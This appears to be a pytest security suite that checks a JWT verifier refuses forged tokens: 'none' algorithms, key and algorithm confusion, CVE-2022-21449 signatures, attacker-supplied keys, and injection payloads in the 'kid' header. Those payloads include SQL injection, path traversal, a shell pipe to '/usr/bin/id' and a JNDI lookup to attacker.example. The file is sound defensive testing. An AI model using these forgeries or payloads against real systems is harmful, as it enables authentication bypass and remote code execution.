"""The known ways round a JWT's signature, each tried where the token is due."""

import json
import zlib
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa

from tests.contract.private_keys import (
    KINDS,
    PrivateKey,
    jwk_of,
    private_key,
    public_pem,
    sign,
)
from tests.security.forge import GONE, SECRET, b64, hs256, part
from tests.security.rings import Ring
from tests.security.target import Target

pytestmark = pytest.mark.parametrize(
    "ring", ["HS256", "RS256", "ES256", "EdDSA"], indirect=True, scope="module"
)

ATTACKERS: dict[str, PrivateKey] = {
    "RS256": (RSA := rsa.generate_private_key(public_exponent=65537, key_size=2048)),
    "PS256": RSA,
    "ES256": ec.generate_private_key(ec.SECP256R1()),
    "EdDSA": ed25519.Ed25519PrivateKey.generate(),
}
JWK = jwk_of(RSA)
OCT = {"kty": "oct", "k": b64(b"mine")}
URL = "https://attacker.example/"


def test_a_token_forged_without_a_fault_is_good(target: Target) -> None:
    """Or else nothing here would be shown by a refusal."""
    assert 200 == target.use(target.forger.with_claims()).status_code
    assert 200 == target.use(target.forger.with_header()).status_code


@pytest.mark.parametrize(
    "alg", ["none", "None", "NONE", "nOnE", "", None, "HS1", 0, []]
)
def test_a_token_needs_an_algorithm(target: Target, alg: object) -> None:
    unsigned = target.forger.unsigned(alg=alg)

    for signature in ("", target.ring.signature(unsigned), b64(b"\0" * 32)):
        target.refuses(f"{unsigned}.{signature}")


@pytest.mark.parametrize(
    "alg",
    [
        *("HS256", "HS384", "HS512", "RS256", "RS384", "PS256", "PS512", "ES256"),
        *("ES384", "ES256K", "EdDSA", "Ed25519", "hs256", "HS256 ", "A256GCM", "dir"),
    ],
)
def test_the_keys_algorithm_is_the_only_one(target: Target, alg: str) -> None:
    if alg == target.ring.algorithm:
        target.refuses(target.forger.with_header(alg=alg.lower()))
        return

    target.refuses(target.forger.with_header(alg=alg))
    if alg in KINDS:
        unsigned = target.forger.unsigned(alg=alg)
        for private in (private_key(alg), ATTACKERS[alg]):
            target.refuses(f"{unsigned}.{b64(sign(private, alg, unsigned))}")


@pytest.mark.parametrize("alg", ["HS256", GONE], ids=["HS256", "the key's own"])
def test_a_public_key_is_no_secret(target: Target, alg: object) -> None:
    pem = target.ring.public
    algorithm = target.ring.algorithm if alg is GONE else alg
    kind = target.ring.algorithm if target.ring.algorithm in KINDS else "RS256"
    jwk = jwk_of(private_key(kind))
    compact = json.dumps(jwk, separators=(",", ":"), sort_keys=True)

    for public in (
        *(pem, pem.strip(), pem.replace(b"\n", b"\r\n"), b"".join(pem.split(b"\n"))),
        *(compact.encode(), json.dumps(jwk).encode(), jwk.get("n", jwk.get("x", ""))),
    ):
        secret = public if isinstance(public, bytes) else str(public).encode()
        target.refuses(target.forger.with_mac(secret, alg=algorithm))


@pytest.mark.parametrize(
    "secret",
    [b"", b"\0", b"secret", b"null", SECRET[:-1].encode(), SECRET.upper().encode()],
)
def test_another_key_does_not_sign(target: Target, secret: bytes) -> None:
    for alg in ("HS256", target.ring.algorithm):
        target.refuses(target.forger.with_mac(secret, alg=alg))
        kid = str(target.forger.header["kid"]).encode()
        target.refuses(target.forger.with_mac(kid, alg=alg))


@pytest.mark.parametrize("alg", KINDS)
def test_anothers_private_key_does_not_sign(target: Target, alg: str) -> None:
    unsigned = target.forger.unsigned(alg=alg)

    target.refuses(f"{unsigned}.{b64(sign(ATTACKERS[alg], alg, unsigned))}")


def test_a_signature_is_not_made_up(target: Target) -> None:
    unsigned, _, good = target.genuine.rpartition(".")
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    n = order.to_bytes(32, "big")

    # CVE-2022-21449: r and s of nothing, or of the order of the curve.
    for signature in (bytes(64), n + n, bytes(32) + n, n + bytes(32), bytes(256)):
        target.refuses(f"{unsigned}.{b64(signature)}")
        target.refuses(f"{target.forger.unsigned(alg='ES256')}.{b64(signature)}")
    for cut in (1, 2, 4, len(good) // 2, len(good) - 1):
        target.refuses(f"{unsigned}.{good[:-cut]}")
    target.refuses(f"{unsigned}.{good[::-1]}")


HEADERS: dict[str, dict[str, Any]] = {
    "embedded jwk": {"jwk": JWK},
    "embedded symmetric jwk": {"jwk": OCT},
    "jku": {"jku": f"{URL}jwks.json"},
    "jku of a host of ours": {"jku": "http://127.0.0.1/.well-known/jwks.json"},
    "x5u": {"x5u": f"{URL}cert.pem"},
    "x5c": {"x5c": [b64(public_pem(RSA))]},
    "x5t": {"x5t": "AAAA"},
    "x5t#S256": {"x5t#S256": "AAAA"},
    "crit": {"crit": ["exp"]},
    "crit of an unknown name": {"crit": ["magic"], "magic": True},
    "crit, empty": {"crit": []},
    "b64": {"b64": False, "crit": ["b64"]},
    "b64 alone": {"b64": False},
    "b64, as usual": {"b64": True, "crit": ["b64"]},
    "cty": {"cty": "JWT"},
    "zip": {"zip": "DEF"},
    "enc": {"enc": "A256GCM"},
    "claims": {"sub": "1", "role": "admin"},
    "no kid": {"kid": GONE},
    "no alg": {"alg": GONE},
    "no typ": {"typ": GONE},
    "kid unknown": {"kid": "0123456789abcdef"},
    "kid empty": {"kid": ""},
    "kid a path": {"kid": "../../../../dev/null"},
    "kid an absolute path": {"kid": "/proc/sys/kernel/randomize_va_space"},
    "kid a URL": {"kid": f"{URL}key"},
    "kid SQL": {"kid": "' UNION SELECT 'mine' --"},
    "kid a command": {"kid": "|/usr/bin/id"},
    "kid a template": {"kid": "${jndi:ldap://attacker.example/a}"},
    "kid NUL": {"kid": "\0"},
    "kid surrogate": {"kid": "\ud800"},
    "kid long": {"kid": "k" * 4000},
    "kid null": {"kid": None},
    "kid a list": {"kid": ["mine"]},
    "kid an object": {"kid": {"mine": 1}},
    "kid a number": {"kid": 0},
    "typ JWT": {"typ": "JWT"},
    "typ in capitals": {"typ": "AT+JWT"},
    "typ with its prefix": {"typ": "application/at+jwt"},
    "typ a list": {"typ": ["at+jwt", "rt+jwt"]},
    "typ null": {"typ": None},
}


@pytest.mark.parametrize("change", HEADERS.values(), ids=HEADERS)
def test_a_header_says_three_things_and_no_others(
    target: Target, change: dict[str, Any]
) -> None:
    target.refuses(target.forger.with_header(**change))


@pytest.mark.parametrize("secret", [b"", b"\0", b"mine", b"2\n"])
@pytest.mark.parametrize("kid", ["../../../../dev/null", "' UNION SELECT 'mine' --"])
def test_a_kid_leads_to_no_key_of_another_place(
    target: Target, kid: str, secret: bytes
) -> None:
    target.refuses(target.forger.with_mac(secret, kid=kid, alg="HS256"))


@pytest.mark.parametrize("alg", KINDS)
def test_a_key_that_comes_along_is_not_used(target: Target, alg: str) -> None:
    attacker = ATTACKERS[alg]
    jwk = jwk_of(attacker)
    for header in (
        {"jwk": jwk},
        {"jwk": {**jwk, "kid": target.forger.header["kid"], "alg": alg}},
        {"jku": f"{URL}jwks.json"},
        {"x5c": [b64(public_pem(attacker))]},
    ):
        for more in ({}, {"kid": "mine"}, {"kid": GONE}):
            unsigned = target.forger.unsigned(alg=alg, **{**header, **more})
            target.refuses(f"{unsigned}.{b64(sign(attacker, alg, unsigned))}")


def test_a_secret_that_comes_along_is_not_used(target: Target) -> None:
    for alg in ("HS256", target.ring.algorithm):
        target.refuses(target.forger.with_mac(b"mine", jwk=OCT, alg=alg))


@pytest.mark.parametrize("name", ["alg", "kid", "typ"])
@pytest.mark.parametrize("value", ['"none"', '"mine"', "null"])
def test_a_header_says_nothing_twice(target: Target, name: str, value: str) -> None:
    header = json.dumps(target.forger.header)

    for twice in (
        f'{{"{name}": {value}, {header[1:]}',
        f'{header[:-1]}, "{name}": {value}}}',
        f'{header[:-1]}, "{name}": {json.dumps(target.forger.header[name])}}}',
    ):
        target.refuses(target.forger.with_parts(twice, target.forger.claims))


def test_a_token_in_a_token_and_a_compressed_one_are_none(target: Target) -> None:
    compressed = zlib.compress(json.dumps(target.forger.claims).encode())[2:-4]
    header = part({**target.forger.header, "zip": "DEF"})
    bare = part(target.forger.header)

    for start in (header, bare):
        text = f"{start}.{b64(compressed)}"
        target.refuses(f"{text}.{target.ring.signature(text)}")
    for cty in ({"cty": "JWT"}, {}):
        nested = target.forger.with_parts(
            {**target.forger.header, **cty}, target.genuine
        )
        target.refuses(nested)


def test_a_mac_of_the_private_key_itself_is_no_good(target: Target, ring: Ring) -> None:
    """Whoever holds it can sign anyway; it shows that no second way in is open."""
    if ring.algorithm == "HS256":
        assert 200 == target.use(target.forger.with_mac(SECRET.encode())).status_code
        return
    unsigned = target.forger.unsigned(alg="HS256")
    target.refuses(f"{unsigned}.{hs256(unsigned, ring.secret.encode())}")
